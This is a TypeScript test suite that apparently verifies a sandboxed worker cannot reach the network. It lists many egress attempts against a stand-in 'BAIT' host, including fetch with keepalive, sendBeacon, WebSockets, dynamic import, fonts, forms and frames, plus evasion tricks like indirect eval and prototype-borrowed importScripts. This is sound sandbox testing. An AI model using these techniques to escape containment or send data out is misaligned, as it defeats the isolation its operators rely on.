import { expect, test } from '../drivers/arena.ts';
import { type Attempt, awaitEvent, expectRefused } from '../drivers/expectRefused.ts';

test.describe.configure({ mode: 'default', timeout: 240_000 });

const attempts: Readonly<Record<string, Readonly<Record<string, Attempt>>>> = {
  'by a request': {
    'fetch of another host': ["return fetch('BAIT/fetch')", /TypeError: Failed to fetch/],
    'fetch without reading the answer': [
      "return fetch('BAIT/no-cors', {mode: 'no-cors'})",
      /TypeError: Failed to fetch/,
    ],
    'fetch that outlives its page': [
      "return fetch('BAIT/keepalive', {method: 'POST', body: 'x', keepalive: true})",
      /TypeError: Failed to fetch/,
    ],
    'fetch with a Request': [
      "return fetch(new Request('BAIT/request', {method: 'PUT', body: 'x'}))",
      /TypeError: Failed to fetch/,
    ],
    'fetch of the app itself': ["return fetch('HOME/index.html')", /TypeError: Failed to fetch/],
    'fetch of a data address': ["return fetch('data:text/plain,x')", /TypeError: Failed to fetch/],
    'fetch of a blob': ["return fetch(URL.createObjectURL(new Blob(['x'])))", /TypeError: Failed to fetch/],
    XMLHttpRequest: [
      awaitEvent(
        "(() => { const x = new XMLHttpRequest(); x.open('GET', 'BAIT/xhr'); x.send(); return x; })()",
        'onload',
      ),
      /Error: error event/,
    ],
    'synchronous XMLHttpRequest': [
      "const x = new XMLHttpRequest(); x.open('GET', 'BAIT/sync', false); x.send(); return x.status",
      /NetworkError: Failed to execute 'send' on 'XMLHttpRequest': Failed to load '/,
    ],
    sendBeacon: [
      "return navigator.sendBeacon('BAIT/beacon')",
      /TypeError: navigator\.sendBeacon is not a function/,
    ],
    'a function made of text': [
      'return new Function(\'return fetch("BAIT/function")\')()',
      /TypeError: Failed to fetch/,
    ],
    'an indirect eval': ['return (0, eval)(\'fetch("BAIT/eval")\')', /TypeError: Failed to fetch/],
  },
  'by a connection or a service of the browser': {
    WebSocket: [awaitEvent("new WebSocket('SOCKET/socket')", 'onopen'), /Error: error event/],
    WebSocketStream: [
      "return new WebSocketStream('SOCKET/stream').opened",
      /SecurityError: An attempt was made to break through the security policy of the user agent\./,
    ],
    EventSource: [awaitEvent("new EventSource('BAIT/events')", 'onopen'), /Error: error event/],
    WebTransport: [
      "return new WebTransport('BAIT/transport'.replace('http:', 'https:')).ready",
      /ReferenceError: WebTransport is not defined/,
    ],
    WebRTC: [
      "return new RTCPeerConnection({iceServers: [{urls: 'STUN'}]})",
      /ReferenceError: RTCPeerConnection is not defined/,
    ],
    'a background fetch': [
      "return registration.backgroundFetch.fetch('x', ['BAIT/background'])",
      /ReferenceError: registration is not defined/,
    ],
    'push messages': [
      'return registration.pushManager.subscribe()',
      /ReferenceError: registration is not defined/,
    ],
    'a payment': [
      "return new PaymentRequest([{supportedMethods: 'BAIT/pay'}], {}).show()",
      /ReferenceError: PaymentRequest is not defined/,
    ],
  },
  'by a script or a worker': {
    importScripts: ["return importScripts('BAIT/script.js')", /TypeError: importScripts is not a function/],
    'importScripts from the prototype': [
      "return WorkerGlobalScope.prototype.importScripts.call(self, 'BAIT/script.js')",
      /NetworkError: Failed to execute 'importScripts' on 'WorkerGlobalScope': The script at '/,
    ],
    'import()': [
      "return import('BAIT/module.js')",
      /TypeError: Failed to fetch dynamically imported module:/,
    ],
    'import() of the app': [
      "return import('HOME/index.html')",
      /TypeError: Failed to fetch dynamically imported module:/,
    ],
    'import() of a data address': [
      "return import('data:text/javascript,export default 1')",
      /TypeError: Failed to fetch dynamically imported module:/,
    ],
    'import() of a blob': [
      "return import(URL.createObjectURL(new Blob(['export default 1'], {type: 'text/javascript'})))",
      /TypeError: Failed to fetch dynamically imported module:/,
    ],
    'a nested worker': ["return new Worker('BAIT/worker.js')", /TypeError: Worker is not a constructor/],
    'a nested worker of the class that was removed': [
      "delete self.Worker; const made = new (Object.getPrototypeOf(self).Worker ?? Worker)(URL.createObjectURL(new Blob([''])))",
      /ReferenceError: Worker is not defined/,
    ],
    'a shared worker': [
      "return new SharedWorker('HOME/index.html')",
      /ReferenceError: SharedWorker is not defined/,
    ],
    'a service worker': [
      "return navigator.serviceWorker.register('HOME/sw.js')",
      /TypeError: Cannot read properties of undefined \(reading 'register'\)/,
    ],
  },
  'by an image, a font or a style': {
    'an image': ["return new Image().src = 'BAIT/image.png'", /ReferenceError: Image is not defined/],
    'an image by its bytes': [
      "return createImageBitmap(await (await fetch('BAIT/bitmap.png')).blob())",
      /TypeError: Failed to fetch/,
    ],
    'a font': [
      "return new FontFace('x', 'url(BAIT/font.woff)').load()",
      /NetworkError: A network error occurred\./,
    ],
    'a font of the worker’s set': [
      "fonts.add(new FontFace('y', 'url(BAIT/face.woff)')); return fonts.load('12px y').then((list) => list.length === 0 ? Promise.reject('no font') : 1)",
      /NetworkError: A network error occurred\./,
    ],
    'CSS with an import': [
      'return new CSSStyleSheet().replace(\'@import "BAIT/style.css"\')',
      /ReferenceError: CSSStyleSheet is not defined/,
    ],
    'CSS in the page': [
      "document.head.append(Object.assign(document.createElement('style'), {textContent: '@import \"BAIT/style.css\"'}))",
      /ReferenceError: document is not defined/,
    ],
    'DNS prefetch': [
      "document.head.append(Object.assign(document.createElement('link'), {rel: 'dns-prefetch', href: 'BAIT/'}))",
      /ReferenceError: document is not defined/,
    ],
    preconnect: [
      "document.head.append(Object.assign(document.createElement('link'), {rel: 'preconnect', href: 'BAIT/'}))",
      /ReferenceError: document is not defined/,
    ],
  },
  'by a form, a frame or a window': {
    'a form': [
      "const form = document.createElement('form'); form.action = 'BAIT/form'; form.submit()",
      /ReferenceError: document is not defined/,
    ],
    'a download': [
      "Object.assign(document.createElement('a'), {href: 'BAIT/file', download: 'x'}).click()",
      /ReferenceError: document is not defined/,
    ],
    'a frame': [
      "document.body.append(Object.assign(document.createElement('iframe'), {src: 'BAIT/frame'}))",
      /ReferenceError: document is not defined/,
    ],
    'a popup': ["return open('BAIT/popup')", /ReferenceError: open is not defined/],
    'a navigation': [
      "self.location = 'BAIT/navigation'; return location.href.startsWith('blob:') ? Promise.reject('stays') : 1",
      /TypeError: Cannot set property location of #<WorkerGlobalScope> which has only a getter/,
    ],
    'a navigation by location.assign': [
      "return location.assign('BAIT/assign')",
      /TypeError: location\.assign is not a function/,
    ],
    'a window of a service worker': [
      "return clients.openWindow('BAIT/window')",
      /ReferenceError: clients is not defined/,
    ],
  },
};

test.describe('no code of a run reaches the network:', () => {
  for (const [way, group] of Object.entries(attempts)) {
    test(way, ({ arena }, info) => expectRefused(arena, group, info));
  }

  test('the canary records who can reach it', async ({ arena }) => {
    await arena.page.request.get(`${arena.canary.address}/control`);
    expect(arena.canary.reached).toEqual(['connection', 'GET /control']);
    for (const what of ['connection', 'GET /control']) arena.canary.forget(what);
  });
});
